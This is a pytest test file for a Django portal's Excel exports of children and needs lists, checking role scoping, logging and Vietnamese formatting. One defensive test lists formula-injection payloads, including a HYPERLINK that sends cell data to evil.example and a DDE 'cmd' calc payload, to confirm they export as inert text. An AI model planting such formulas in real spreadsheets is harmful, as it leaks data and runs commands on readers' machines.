"""Exports of the children and needs lists: only rows in scope, formula-safe, and every export logged."""

import datetime as dt
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from needs.models import Category, Need
from portal.models import ExportLog
from tests.factories import ChildFactory

pytestmark = pytest.mark.django_db


@pytest.fixture
def children(personas):
    return {
        "a": ChildFactory(full_name="Giàng Thị Mỷ", commune=personas.commune_a),
        "a0": ChildFactory(full_name="Sùng A Páo", commune=personas.commune_a0),
        "b": ChildFactory(full_name="Lầu Thị Pà", commune=personas.commune_b),
        "c": ChildFactory(full_name="Vàng A Chứ", commune=personas.commune_c),
    }


@pytest.fixture
def needs(children):
    return {
        key: Need.objects.create(
            child=child,
            commune=child.commune,
            category=Category.WARM_CLOTHING,
            quantity=2,
            unit_cost=1250000,
            season="W2026",
            needed_by=dt.date(2026, 11, 30),
            justification="Mùa đông lạnh",
        )
        for key, child in children.items()
    }


def rows_of(response) -> list[tuple]:
    assert response.status_code == 200, response.status_code
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    sheet = load_workbook(io.BytesIO(response.content)).active
    return list(sheet.iter_rows(min_row=2, values_only=True))


def names(response, column=1) -> set[str]:
    return {row[column] for row in rows_of(response)}


@pytest.mark.parametrize(
    ("who", "expected"),
    [
        ("officer_a", {"Giàng Thị Mỷ", "Sùng A Páo"}),
        ("officer_b", {"Lầu Thị Pà"}),
        ("staff", {"Giàng Thị Mỷ", "Sùng A Páo", "Lầu Thị Pà"}),
        ("auditor", {"Giàng Thị Mỷ", "Sùng A Páo", "Lầu Thị Pà"}),
        ("staff_q", {"Vàng A Chứ"}),
    ],
)
def test_it_exports_only_the_children_and_needs_in_scope(client, personas, needs, who, expected):
    client.force_login(getattr(personas, who))
    assert names(client.get(reverse("child-export"))) == expected
    assert names(client.get(reverse("need-export")), column=2) == expected


@pytest.mark.parametrize("who", ["donor", "leader"])
def test_it_refuses_lists_of_named_children_to_roles_without_personal_data(client, personas, needs, who):
    client.force_login(getattr(personas, who))
    assert client.get(reverse("child-export")).status_code == 403
    assert client.get(reverse("need-export")).status_code == 403
    assert not ExportLog.objects.exists()


def test_it_sends_anonymous_visitors_to_log_in(client):
    assert client.get(reverse("child-export"))["Location"].startswith(reverse("login"))


def test_it_applies_the_list_filters_and_never_widens_them(client, personas, needs):
    client.force_login(personas.staff)
    assert names(client.get(reverse("child-export"), {"commune": personas.commune_b.pk})) == {"Lầu Thị Pà"}
    assert names(client.get(reverse("child-export"), {"q": "giang thi"})) == {"Giàng Thị Mỷ"}
    client.force_login(personas.officer_a)
    assert rows_of(client.get(reverse("child-export"), {"commune": personas.commune_b.pk})) == []
    assert rows_of(client.get(reverse("need-export"), {"commune": personas.commune_c.pk})) == []


def test_it_logs_every_export_with_its_filter_and_row_count(client, personas, needs):
    client.force_login(personas.staff)
    client.get(reverse("child-export"), {"commune": personas.commune_b.pk, "sex": ""})
    client.get(reverse("need-export"))
    logs = list(ExportLog.objects.order_by("at", "pk").values_list("user", "what", "filters", "row_count"))
    assert logs == [
        (personas.staff.pk, "needs.children", {"commune": str(personas.commune_b.pk)}, 1),
        (personas.staff.pk, "needs.needs", {}, 3),
    ]


@pytest.mark.parametrize(
    "dangerous", ['=HYPERLINK("http://evil.example/?d="&A1,"Xem ảnh")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"]
)
def test_it_exports_formula_like_names_and_notes_as_text(client, personas, dangerous):
    ChildFactory(full_name=dangerous, notes=dangerous, commune=personas.commune_a)
    client.force_login(personas.officer_a)
    response = client.get(reverse("child-export"))
    sheet = load_workbook(io.BytesIO(response.content)).active
    headers = [cell.value for cell in sheet[1]]
    name, notes = sheet.cell(row=2, column=2), sheet.cell(row=2, column=headers.index("Ghi chú") + 1)
    for cell in (name, notes):
        assert cell.data_type == "s"
        assert cell.value == dangerous
        assert cell.quotePrefix


def test_it_writes_vietnamese_headers_dates_and_money(client, personas, needs):
    client.force_login(personas.officer_b)
    response = client.get(reverse("need-export"))
    sheet = load_workbook(io.BytesIO(response.content)).active
    headers = [cell.value for cell in sheet[1]]
    assert headers[:3] == ["Số", "Mã hồ sơ trẻ", "Trẻ em / tập thể"]
    row = dict(zip(headers, sheet[2], strict=True))
    assert row["Đơn giá dự kiến (đồng)"].value == 1250000
    assert row["Đơn giá dự kiến (đồng)"].number_format == "#,##0"
    assert row["Kinh phí dự kiến (đồng)"].value == 2500000
    assert row["Cần trước ngày"].value == dt.datetime(2026, 11, 30)
    assert row["Cần trước ngày"].number_format == "DD/MM/YYYY"
    assert row["Mùa/đợt"].value == "Mùa đông 2026–2027"
    assert response["Cache-Control"] == "no-store"


def test_it_exports_a_list_in_a_fixed_number_of_queries(client, personas, django_assert_max_num_queries):
    for n in range(30):
        ChildFactory(full_name=f"Lò Văn {n}", commune=personas.commune_a)
    client.force_login(personas.officer_a)
    with django_assert_max_num_queries(12):
        assert len(rows_of(client.get(reverse("child-export")))) == 30
